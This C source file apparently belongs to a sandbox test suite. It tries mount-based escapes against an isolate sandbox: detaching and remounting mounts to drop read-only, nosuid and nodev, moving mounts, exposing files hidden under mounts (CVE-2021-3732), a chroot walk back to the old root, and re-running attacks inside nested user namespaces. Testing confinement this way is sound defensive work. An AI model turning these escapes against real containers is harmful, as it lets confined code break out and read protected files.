/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Attacks on mounts: undoing what isolate mounted, as ourselves and as root of a user namespace of our own. */
#include "config.h"

#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* The numbers are the same on every architecture; the C library has wrappers only since glibc 2.36. */
enum { NR_OPEN_TREE = 428, NR_MOVE_MOUNT = 429, NR_MOUNT_SETATTR = 442 };
enum { TREE_CLONE = 1, TREE_CLOEXEC = O_CLOEXEC };

struct attributes {
	uint64_t set, clear, propagation, userns_fd;
};
enum { ATTRIBUTE_RDONLY = 1, ATTRIBUTE_NOSUID = 2, ATTRIBUTE_NODEV = 4 };

enum { MOUNTS_MAX = 1024 };

/* The mount points that we see, with the options of each. Returns how many. */
static int
read_mounts(char *points[MOUNTS_MAX], char *options[MOUNTS_MAX])
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	char line[8192];
	int n = 0;

	while (f && n < MOUNTS_MAX && fgets(line, sizeof(line), f)) {
		char point[PATH_MAX], option[256];

		if (sscanf(line, "%*d %*d %*s %*s %4095s %255s", point, option) != 2)
			continue;
		points[n] = strdup(point);
		options[n++] = strdup(option);
	}
	if (f)
		fclose(f);
	return n;
}

/* Tries `what` on each mount that there was when we came; WORKED if one gave way. */
static int
on_each(const char *name, int (*what)(const char *point, const char *options))
{
	static char *points[MOUNTS_MAX], *options[MOUNTS_MAX];
	int n = read_mounts(points, options), found = 0;

	if (n == 0)
		return untried("/proc/self/mountinfo");
	/* The deepest first: a mount that has others on it is busy. */
	for (int i = n - 1; i >= 0; i--) {
		if (what(points[i], options[i]) == 0) {
			fprintf(stderr, "%s gave way to %s\n", points[i], name);
			found++;
		}
	}
	return found ? worked(name) : stopped(name);
}

static int
umount_one(const char *point, const char *options)
{
	(void)options;
	/* "/" can be detached by whoever owns the namespace, and then nothing is left to see: that is not an escape. */
	if (strcmp(point, "/") == 0)
		return -1;
	return umount2(point, MNT_DETACH) == 0 || umount2(point, 0) == 0 ? 0 : -1;
}

static int
run_umount(char **argv)
{
	(void)argv;
	return on_each("umount", umount_one);
}

/* Whether what is mounted at `point` now allows more than its options did. */
static int
remount_one(const char *point, const char *options)
{
	static const struct {
		const char *option;
		uint64_t attribute;
		unsigned long keep; /* flags that are set for the old interface, which sets all at once */
	} rows[] = {
		{ "ro", ATTRIBUTE_RDONLY, MS_NOSUID | MS_NODEV },
		{ "nosuid", ATTRIBUTE_NOSUID, MS_RDONLY | MS_NODEV },
		{ "nodev", ATTRIBUTE_NODEV, MS_RDONLY | MS_NOSUID },
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct attributes attributes = { .clear = rows[i].attribute };
		char all[300], wanted[32];

		snprintf(all, sizeof(all), ",%s,", options);
		snprintf(wanted, sizeof(wanted), ",%s,", rows[i].option);
		if (!strstr(all, wanted))
			continue;
		if (mount(NULL, point, NULL, MS_REMOUNT | MS_BIND | rows[i].keep, NULL) == 0)
			return 0;
		if (syscall(NR_MOUNT_SETATTR, AT_FDCWD, point, 0, &attributes, sizeof(attributes)) == 0)
			return 0;
	}
	return -1;
}

static int
run_remount(char **argv)
{
	(void)argv;
	return on_each("remount", remount_one);
}

/* The file system itself, for all its mounts at once: a tmpfs that is read-only here only. */
static int
remount_filesystem(const char *point, const char *options)
{
	(void)options;
	return mount(NULL, point, NULL, MS_REMOUNT, "size=1g");
}

static int
run_remount_filesystem(char **argv)
{
	(void)argv;
	return on_each("remount of the file system", remount_filesystem);
}

static int
move_one(const char *point, const char *options)
{
	(void)options;
	if (strcmp(point, "/") == 0)
		return -1;
	if (mount(point, "moved", NULL, MS_MOVE, NULL) == 0)
		return 0;
	return (int)syscall(NR_MOVE_MOUNT, AT_FDCWD, point, AT_FDCWD, "moved", 0);
}

static int
run_move(char **argv)
{
	(void)argv;
	if (mkdir("moved", 0755) < 0 && errno != EEXIST)
		return untried("mkdir");
	return on_each("move", move_one);
}

/*
 * Seeing what a mount covers: DIRECTORY has the secret at NAME, and something is mounted on NAME. By a bind of
 * DIRECTORY alone, by a detached copy of it, and as the lower layer of an overlay (CVE-2021-3732).
 */
static int
run_reveal(char **argv)
{
	char path[PATH_MAX], overlay[2 * PATH_MAX];
	int fd;

	if ((mkdir("reveal", 0755) < 0 && errno != EEXIST) || (mkdir("lower", 0755) < 0 && errno != EEXIST))
		return untried("mkdir");
	snprintf(path, sizeof(path), "reveal/%s", argv[1]);
	if (mount(argv[0], "reveal", NULL, MS_BIND, NULL) == 0)
		return look_for_secret(open(path, O_RDONLY | O_CLOEXEC), "a flat bind");
	fd = (int)syscall(NR_OPEN_TREE, AT_FDCWD, argv[0], TREE_CLONE | TREE_CLOEXEC);
	if (fd >= 0)
		return look_for_secret(openat(fd, argv[1], O_RDONLY | O_CLOEXEC), "a detached copy");
	snprintf(overlay, sizeof(overlay), "userxattr,lowerdir=%s:lower", argv[0]);
	if (mount("overlay", "reveal", "overlay", MS_RDONLY, overlay) == 0)
		return look_for_secret(open(path, O_RDONLY | O_CLOEXEC), "an overlay");
	return stopped("bind, open_tree, overlay");
}

/* The machine's own file systems, mounted afresh. */
static int
run_mount_new(char **argv)
{
	if (mkdir("fresh", 0755) < 0 && errno != EEXIST)
		return untried("mkdir");
	if (mount("none", "fresh", argv[0], 0, NULL) < 0)
		return stopped(argv[0]);
	return worked(argv[0]);
}

/* The old root, if pivot_root(2) left it anywhere: beneath "/", or by the chroot(2) walk that leaves a chroot. */
static int
run_old_root(char **argv)
{
	umount2("/", MNT_DETACH);
	if (mkdir("deep", 0755) < 0 && errno != EEXIST)
		return untried("mkdir");
	if (chroot("deep") < 0)
		return stopped("chroot");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return stopped("chdir");
	if (chroot(".") < 0)
		return stopped("chroot");
	return look_for_secret(open(argv[0], O_RDONLY | O_CLOEXEC), argv[0]);
}

static int
write_map(const char *name, unsigned outside)
{
	char path[64], text[32];
	int fd, r;

	snprintf(path, sizeof(path), "/proc/self/%s", name);
	snprintf(text, sizeof(text), "0 %u 1", outside);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	r = fd < 0 || write(fd, text, strlen(text)) < 0 ? -1 : 0;
	close(fd);
	return r;
}

static int
write_maps(unsigned uid, unsigned gid)
{
	int fd;

	if (write_map("uid_map", uid) < 0)
		return -1;
	fd = open("/proc/self/setgroups", O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	if (write(fd, "deny", 4) < 0)
		fprintf(stderr, "setgroups: %s\n", strerror(errno)); /* denied already: the map says what matters */
	close(fd);
	return write_map("gid_map", gid);
}

/* In namespaces of our own, with all capabilities over them: another attack. */
static int
run_nested(char **argv)
{
	unsigned uid = getuid(), gid = getgid();
	int r, status;
	pid_t pid;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWIPC | CLONE_NEWCGROUP) < 0)
		return untried("unshare");
	/* The kernel lets root without CAP_SETFCAP map nobody (Linux 5.12). The capabilities are there all the same. */
	if (write_maps(uid, gid) < 0 && uid != 0)
		return untried("uid_map, gid_map");
	pid = fork(); /* the first process of the new pid namespace */
	if (pid == 0) {
		r = attack_run(argv);
		_exit(r >= 0 ? r : untried(argv[0]));
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
		return untried("fork");
	return WEXITSTATUS(status);
}

const struct attack mount_attacks[] = {
	{ "umount", "", 0, run_umount },
	{ "remount", "", 0, run_remount },
	{ "remount-filesystem", "", 0, run_remount_filesystem },
	{ "move", "", 0, run_move },
	{ "reveal", "DIRECTORY NAME", 2, run_reveal },
	{ "mount-new", "TYPE", 1, run_mount_new },
	{ "old-root", "PATH", 1, run_old_root },
	{ "nested", "ATTACK ARG...", 1, run_nested },
	{ 0 },
};
